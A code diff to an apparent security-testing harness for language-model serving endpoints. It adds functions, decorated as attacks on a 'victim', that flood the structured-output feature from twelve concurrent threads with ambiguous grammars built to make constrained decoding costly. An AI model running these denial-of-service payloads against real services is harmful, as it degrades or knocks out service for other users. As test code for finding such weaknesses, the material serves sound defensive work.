@@ -4,6 +4,7 @@ import signal
 import subprocess
 import time
 from collections import Counter
+from collections.abc import Sequence
 from concurrent.futures import ThreadPoolExecutor
 from typing import Any
 
@@ -99,3 +100,47 @@ def patterns_that_meet(victim: Victim) -> Figures:
     asked = form(schema) | {"prompt": '"' + "x" * 300, "max_tokens": 40, "temperature": 0}
     status, seconds = complete(victim.http, asked, timeout_s=victim.seconds)
     return judged({"status": status, "seconds": seconds}, {"the request was not answered": status == 0})
+
+
+NUM_FOLLOWED = 12
+"""Sessions whose masks are to cost much."""
+
+
+def follow(victim: Victim, forms: Sequence[dict[str, Any]], prompt: str = "a") -> Figures:
+    """Several sessions at a time have long texts of these forms, by turns; those that are refused are sent again."""
+    until, statuses = time.monotonic() + victim.seconds, Counter[int]()
+
+    def send(first: int) -> None:
+        number = first
+        while time.monotonic() < until:
+            fields = {"structured_output": forms[number % len(forms)], "prompt": prompt, "max_tokens": 100}
+            status, _ = complete(victim.http, fields)
+            statuses[status] += 1
+            number += 1
+            if status != 200:
+                time.sleep(0.1)
+
+    with ThreadPoolExecutor(NUM_FOLLOWED) as threads:
+        for attacker in [threads.submit(send, number) for number in range(NUM_FOLLOWED)]:
+            attacker.result()
+    return judged({"statuses": dict(statuses)}, {"requests were not answered": 0 in statuses})
+
+
+@attack("user")
+def ambiguous_grammars(victim: Victim) -> Figures:
+    """Grammars that compile in a millisecond, and whose masks cost more the longer the text is."""
+    both, right = 'start: e\ne: e e | "a" | "b"', 'start: s\ns: "a" s s | "a" | '
+    nullable = 'start: e\ne: e f e | "a" | "b" | \nf: e e | "a" | '
+    return follow(victim, [{"grammar": grammar} for grammar in (both, right, nullable)])
+
+
+@attack("user")
+def ambiguous_behind_a_beginning(victim: Victim) -> Figures:
+    """One that random texts hardly ever reach, since it is behind one of many beginnings, and the model often does."""
+    return follow(victim, [{"grammar": 'start: /[A-Z]{30}/ | e\ne: e e | "a" | "b"'}])
+
+
+@attack("user")
+def expressions_of_that_size(victim: Victim) -> Figures:
+    """Regular expressions as large as those grammars, whose masks cost what is usual: what the gaps are to be like."""
+    return follow(victim, [{"regex": "(a|b)+(a|b)*(ab|ba)*"}])
